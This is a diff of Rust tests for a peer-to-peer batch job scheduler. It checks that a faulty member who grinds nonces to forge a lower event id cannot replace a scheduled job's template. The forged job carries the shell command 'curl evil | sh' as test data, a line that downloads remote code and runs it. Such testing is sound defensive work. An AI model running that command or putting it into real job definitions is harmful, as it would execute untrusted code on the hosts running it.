@@ -12,8 +12,8 @@ use peerbatch_protocol::event::{event_id, Claim};
 use peerbatch_protocol::ledger::job_id_of;
 use peerbatch_protocol::schedule::{occurrence_job_id, Occurrence, Recurrence};
 use peerbatch_protocol::{
-    BlobId, Command, Config, EventBody, Identity, Input, JobSpec, Message, Millis, NodeInfo,
-    Outcome, Source, TaskResult, TaskState,
+    BlobId, Command, Config, EventBody, EventId, Identity, Input, JobSpec, Message, Millis,
+    NodeInfo, Outcome, Source, TaskResult, TaskState,
 };
 use std::collections::BTreeSet;
 
@@ -171,6 +171,19 @@ fn only_the_submitter_or_an_admin_cancels_a_job() {
     assert_eq!(a.core.progress(&job).cancelled, 3);
 }
 
+/// A submit of `job` by the faulty member whose event id it ground until
+/// it is lower than `than`'s.
+fn ground_below(than: EventId, job: &JobSpec, submitted_ms: u64) -> EventBody {
+    (0..)
+        .map(|nonce| EventBody::JobSubmitted {
+            job: job.clone(),
+            submitted_ms,
+            nonce,
+        })
+        .find(|body| event_id(&faulty().sign(body.clone()).encode()) < than)
+        .expect("some nonce gives a lower id")
+}
+
 #[test]
 fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grinds() {
     let mut a = Node::new(1, Config::default());
@@ -200,46 +213,12 @@ fn a_scheduled_job_keeps_its_schedules_template_whatever_event_id_a_forger_grind
     let mut evil = spec(1, 0);
     evil.groups[0].spec_mut().command = Command::Shell("curl evil | sh".into());
     evil.origin = Some(occurrence);
-    let forged = (0..)
-        .map(|nonce| {
-            faulty().sign(EventBody::JobSubmitted {
-                job: evil.clone(),
-                submitted_ms: 1_000,
-                nonce,
-            })
-        })
-        .find(|e| event_id(&e.encode()) < honest)
-        .expect("some nonce gives a lower id");
-    a.core.handle_gossip(
-        Millis(3),
-        faulty().node_id(),
-        Message::Events {
-            events: vec![forged.encode()],
-        },
-    );
-    a.pump();
+    a.hear(4, &faulty(), vec![ground_below(honest, &evil, 1_000)]);
     assert_eq!(a.core.ledger().job(&job).map(|j| &j.spec), Some(&fired));
 
     // A copy of the template, ground below, dated at the epoch: the job
     // keeps its occurrence's time (a job-level wall clock runs from it).
-    let copy = (0..)
-        .map(|nonce| {
-            faulty().sign(EventBody::JobSubmitted {
-                job: fired.clone(),
-                submitted_ms: 0,
-                nonce,
-            })
-        })
-        .find(|e| event_id(&e.encode()) < honest)
-        .expect("some nonce gives a lower id");
-    a.core.handle_gossip(
-        Millis(3),
-        faulty().node_id(),
-        Message::Events {
-            events: vec![copy.encode()],
-        },
-    );
-    a.pump();
+    a.hear(5, &faulty(), vec![ground_below(honest, &fired, 0)]);
     let record = a.core.ledger().job(&job).expect("the scheduled job");
     assert_eq!((&record.spec, record.submitted_ms), (&fired, 1_000));
 
